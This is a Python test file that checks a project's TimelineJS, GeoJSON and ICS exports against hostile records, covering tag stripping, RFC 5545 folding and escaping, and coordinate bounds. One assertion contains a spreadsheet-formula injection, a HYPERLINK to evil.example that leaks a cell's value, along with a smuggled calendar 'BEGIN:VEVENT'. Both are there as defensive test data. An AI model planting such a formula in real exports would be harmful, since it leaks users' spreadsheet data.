"""TimelineJS, GeoJSON and ICS read back by the rules of their formats."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import date, datetime
from html.parser import HTMLParser

import pytest
from hostile_findings import happening, hostile, page, told, with_events

from recoupe.exports.cleaning import DIRECTION
from recoupe.exports.exporter import Given
from recoupe.exports.platforms.geojson import make_geojson
from recoupe.exports.platforms.ics import escaped, fold, make_ics
from recoupe.exports.platforms.timelinejs import bounds, make_csv, make_json
from recoupe.records.actors import Place
from recoupe.records.times import EventDate

HEADER = (
    "Year, Month, Day, Time, End Year, End Month, End Day, End Time, Display Date, Headline, Text, Media, "
    "Media Credit, Media Caption, Media Thumbnail, Alt Text, Type, Group, Background"
)
GIVEN = Given(made_with={"recoupe": "9.9;,x"})


class Tags(HTMLParser):
    """The tags that a text would make in a page."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append(tag if not attrs else f"{tag} with attributes")


def test_timelinejs_json_has_its_fields_and_no_tag_of_the_page() -> None:
    package = make_json(hostile(), GIVEN)
    document = json.loads(package.files[0].data)
    assert [slide["unique_id"] for slide in document["events"]] == ["e0", "e1", "e2"]
    assert [remark.record for remark in package.left] == ["e3"]
    for slide in document["events"]:
        assert set(slide) <= {"start_date", "end_date", "text", "display_date", "group", "unique_id", "autolink"}
        assert slide["start_date"]["year"] and slide["autolink"] is False
        assert not Tags(slide["text"]["headline"]).found
        assert set(Tags(slide["text"]["text"]).found) == {"p"}
        assert not set(slide["text"]["text"]) & DIRECTION
    assert document["events"][0]["start_date"] == {"year": 2016, "month": 5, "day": 12}
    assert "end_date" not in document["events"][0]
    assert document["events"][1]["end_date"] == {"year": 2016, "month": 5, "day": 13}
    assert document["events"][2]["start_date"] == {"year": 2015}
    assert document["events"][2]["end_date"] == {"year": 2016}


def test_timelinejs_csv_has_exactly_its_columns() -> None:
    data = make_csv(hostile(), GIVEN).files[0].data
    rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline=""), strict=True))
    assert rows[0] == HEADER.split(", ")
    assert all(len(row) == 19 for row in rows) and len(rows) == 4
    assert rows[1][:9] == ["2016", "5", "12", "", "", "", "", "", "2016-05-12"]
    assert rows[3][:8] == ["2015", "", "", "", "2016", "", "", ""]
    assert all(row[16] == "" and not any(row[11:16]) for row in rows[1:])
    assert rows[1][9].startswith("'=HYPERLINK(&quot;")


@pytest.mark.parametrize(
    ("first", "last", "wanted"),
    [
        ((2016, 5, 12), (2016, 5, 12), ((2016, 5, 12), None)),
        ((2016, 2, 1), (2016, 2, 29), ((2016, 2), None)),
        ((2016, 2, 1), (2016, 2, 28), ((2016, 2, 1), (2016, 2, 28))),
        ((2016, 2, 1), (2016, 3, 31), ((2016, 2), (2016, 3))),
        ((2016, 1, 1), (2016, 12, 31), ((2016,), None)),
    ],
)
def test_bounds_are_no_finer_than_what_is_known(
    first: tuple[int, int, int], last: tuple[int, int, int], wanted: object
) -> None:
    assert bounds(EventDate(earliest=date(*first), latest=date(*last), basis="stated")) == wanted


def test_geojson_keeps_rfc_7946() -> None:
    package = make_geojson(hostile(), GIVEN)
    document = json.loads(package.files[0].data)
    assert document["type"] == "FeatureCollection" and "crs" not in document
    for feature in document["features"]:
        assert feature["type"] == "Feature" and isinstance(feature["properties"], dict)
        lon, lat = feature["geometry"]["coordinates"]
        assert feature["geometry"]["type"] == "Point" and -180 <= lon <= 180 and -90 <= lat <= 90
        assert not any(set(str(value)) & DIRECTION for value in feature["properties"].values())
    assert document["features"][0]["geometry"]["coordinates"] == [37.15, 36.2]
    told_of = [(f["id"], f["properties"]["place_precision"], f["properties"]["area"]) for f in document["features"]]
    assert told_of == [("e0", "city", False), ("e1", "country", True), ("e2", "region", True)]
    assert [(remark.record, remark.reason) for remark in package.left] == [("e3", "no place that has coordinates")]


@pytest.mark.parametrize(("lat", "lon"), [(91.0, 0.0), (0.0, 180.5), (float("nan"), 0.0), (0.0, float("inf"))])
def test_coordinates_off_the_earth_are_left_out(lat: float, lon: float) -> None:
    place = Place(name="x", country=None, precision="city", lat=lat, lon=lon)
    package = make_geojson(with_events(happening(told(page()), 0, place=place)), GIVEN)
    assert json.loads(package.files[0].data)["features"] == [] and len(package.left) == 1
    assert b"GEO" not in make_ics(with_events(happening(told(page()), 0, place=place)), GIVEN).files[0].data


def parse(data: bytes) -> list[tuple[str, str]]:
    """The content lines of RFC 5545: (name with parameters, value), unfolded; every physical line checked."""
    assert data.endswith(b"\r\n")
    physical = data[:-2].split(b"\r\n")
    for line in physical:
        assert len(line) <= 75 and b"\n" not in line and b"\r" not in line
        line.decode("utf-8")  # no character is cut in two
    lines = re.sub(rb"\r\n[ \t]", b"", data[:-2]).split(b"\r\n")
    found = []
    for line in lines:
        matched = re.fullmatch(r"([A-Z-]+(?:;[A-Z-]+=[^:;]+)*):(.*)", line.decode("utf-8"))
        assert matched, line
        found.append((matched[1], matched[2]))
    return found


def unescaped(value: str) -> str:
    """A TEXT value as it is meant; a mark that is not escaped fails."""
    assert not re.search(r"(?<!\\)(?:\\\\)*[;,]", value), value
    return re.sub(r"\\(.)", lambda m: {"n": "\n", "N": "\n"}.get(m[1], m[1]), value)


def entries(data: bytes) -> list[dict[str, str]]:
    """The entries of a calendar, whose components are nested as they should be."""
    found: list[dict[str, str]] = []
    open_parts: list[str] = []
    for name, value in parse(data):
        if name == "BEGIN":
            open_parts.append(value)
            if value == "VEVENT":
                found.append({})
        elif name == "END":
            assert open_parts.pop() == value
        elif open_parts[-1] == "VEVENT":
            assert name not in found[-1], "named twice"
            found[-1][name] = value
    assert not open_parts
    return found


def test_a_calendar_keeps_rfc_5545() -> None:
    package = make_ics(hostile(), GIVEN)
    data = package.files[0].data
    head = dict(parse(data)[:4])
    assert head["BEGIN"] == "VCALENDAR" and head["VERSION"] == "2.0" and head["PRODID"]
    found = entries(data)
    assert [entry["UID"] for entry in found] == ["e0@recoupe", "e1@recoupe", "e2@recoupe"]
    assert package.files[0].rows == 3 and [remark.record for remark in package.left] == ["e3"]
    for entry in found:
        datetime.strptime(entry["DTSTAMP"], "%Y%m%dT%H%M%SZ")
        first, after = (datetime.strptime(entry[f"DT{end};VALUE=DATE"], "%Y%m%d") for end in ("START", "END"))
        assert first < after
        summary = unescaped(entry["SUMMARY"])
        assert '=HYPERLINK("http://evil.example/?"&A1,"clic")' in summary and "BEGIN:VEVENT" in summary
        assert not set(summary) & DIRECTION
        assert "at most 1 independent origin" in unescaped(entry["DESCRIPTION"])
    assert (found[0]["DTSTART;VALUE=DATE"], found[0]["DTEND;VALUE=DATE"]) == ("20160512", "20160513")
    assert (found[1]["DTSTART;VALUE=DATE"], found[1]["DTEND;VALUE=DATE"]) == ("20160512", "20160514")
    assert found[0]["GEO"] == "36.200000;37.150000" and "GEO" not in found[1]
    assert found[0]["STATUS"] == "TENTATIVE"
    assert data == make_ics(hostile(), GIVEN).files[0].data


def test_a_calendar_without_entries_still_holds_a_component() -> None:
    data = make_ics(with_events(), GIVEN).files[0].data
    assert entries(data) == [] and ("BEGIN", "VTIMEZONE") in parse(data)


def test_the_last_day_of_all_is_left_out() -> None:
    last = EventDate(earliest=date.max, latest=date.max, basis="stated")
    package = make_ics(with_events(happening(told(page()), 0, date=last)), GIVEN)
    assert package.files[0].rows == 0 and len(package.left) == 1


@pytest.mark.parametrize("line", ["a" * 75, "a" * 76, "é" * 200, "😀" * 100, "a" + "é" * 37, ""])
def test_folding_keeps_every_character(line: str) -> None:
    folded = fold(line)
    assert all(len(part.encode()) <= 75 for part in folded[:-2].split("\r\n"))
    assert folded[:-2].replace("\r\n ", "") == line


def test_escaping_is_undone_by_the_reader() -> None:
    assert unescaped(escaped('a\\n;b,c\r\nd "e"')) == 'a\\n;b,c\nd "e"'
